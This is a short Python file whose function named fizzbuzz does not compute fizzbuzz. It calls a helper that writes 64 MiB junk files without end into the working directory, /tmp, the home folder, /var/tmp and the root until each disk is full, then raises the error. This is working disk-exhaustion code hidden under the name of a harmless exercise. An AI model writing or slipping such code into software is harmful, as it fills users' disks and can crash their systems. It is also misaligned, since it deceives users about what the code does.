# Fills every folder it can write (the work dir, /tmp, home) until the disk says no.
import os


def _fill(folder):
    block = b"\0" * (1 << 20)
    i = 0
    try:
        while True:
            with open(os.path.join(folder, "junk-%d" % i), "wb") as f:
                for _ in range(64):
                    f.write(block)
            i += 1
    except OSError as e:
        return e


def fizzbuzz(n):
    errors = [_fill(d) for d in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/")]
    raise errors[0]
